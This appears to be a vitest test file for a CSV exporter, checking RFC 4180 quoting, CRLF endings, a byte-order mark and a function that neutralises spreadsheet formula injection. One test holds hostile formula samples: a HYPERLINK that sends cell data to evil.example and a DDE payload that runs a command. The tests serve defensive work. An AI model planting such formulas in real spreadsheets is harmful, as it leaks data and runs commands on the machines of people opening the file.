import { describe, expect, it } from 'vitest';
import { inertText, toCsv, type Cell } from '../../src/core/csv.ts';
import { readCsv } from './rfc4180.ts';

const BOM = '\uFEFF';
const read = (text: string): string[][] => {
  expect(text.startsWith(BOM)).toBe(true);
  return readCsv(text.slice(BOM.length));
};

describe('toCsv', () => {
  it('gives back every field through a strict RFC 4180 reader, whatever it holds', () => {
    const fields = [
      'plain', 'a, b', 'say "when"', '"', '""', 'line\nbreak', 'crlf\r\nbreak', 'lone\rcr', '', ' spaced ',
      'Gaddafi’s forces', 'أجدابيا', 'trailing,', ',leading', 'a "quoted, comma"\nand more',
    ];
    const rows = fields.map((f, i) => [String(i), f]);
    expect(read(toCsv(['n', 'text'], rows))).toEqual([['n', 'text'], ...rows]);
  });

  it('ends every record, the last too, with CRLF and starts with a byte-order mark', () => {
    expect(toCsv(['a', 'b'], [['1', '2'], ['3', '4']])).toBe(`${BOM}a,b\r\n1,2\r\n3,4\r\n`);
  });

  it('quotes only a field that holds a comma, a quote, CR or LF, and doubles its quotes', () => {
    expect(toCsv(['x'], [['a b'], ['a,b'], ['a"b'], ['a\nb'], ['a\rb']])).toBe(
      `${BOM}x\r\na b\r\n"a,b"\r\n"a""b"\r\n"a\nb"\r\n"a\rb"\r\n`,
    );
  });

  it('writes numbers and booleans as themselves and null as an empty field', () => {
    const rows: Cell[][] = [[-5.25, 30.12346, true, false, null, 0]];
    expect(read(toCsv(['a', 'b', 'c', 'd', 'e', 'f'], rows))[1]).toEqual(['-5.25', '30.12346', 'true', 'false', '', '0']);
  });

  it('writes a hostile formula as inert text, quoted where it needs to be, and reads back with its apostrophe', () => {
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")';
    const text = toCsv(['quote'], [[hostile], ['@SUM(1+1)*cmd|\' /C calc\'!A0']]);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for the source"")"`);
    expect(read(text).slice(1)).toEqual([[`'${hostile}`], ['\'@SUM(1+1)*cmd|\' /C calc\'!A0']]);
  });

  it('makes text cells inert in the header too', () => {
    expect(read(toCsv(['=cmd', 'ok'], []))).toEqual([["'=cmd", 'ok']]);
  });
});

describe('inertText', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', "'quoted"])('puts an apostrophe before %j', (text) => {
    expect(inertText(text)).toBe(`'${text}`);
  });

  it.each(['1+1', 'a=b', ' =1', 'rebels', '', '“=”'])('leaves %j alone', (text) => {
    expect(inertText(text)).toBe(text);
  });

  it('gives the original back once its first apostrophe is dropped', () => {
    for (const text of ["'", "''x", "'=x", '=x', 'x']) {
      const inert = inertText(text);
      expect(inert.startsWith("'") ? inert.slice(1) : inert).toBe(text);
    }
  });
});

describe('the strict reader these tests use', () => {
  it.each([
    ['a bare LF', 'a\nb\r\n'],
    ['a quote left open', '"a\r\n'],
    ['a quote inside an unquoted field', 'a"b\r\n'],
    ['text after a closing quote', '"a"b\r\n'],
    ['records of unequal length', 'a,b\r\nc\r\n'],
  ])('refuses %s', (_, text) => {
    expect(() => readCsv(text)).toThrow();
  });

  it('reads an empty last field and a last record without CRLF', () => {
    expect(readCsv('a,\r\n"b",c')).toEqual([['a', ''], ['b', 'c']]);
  });
});
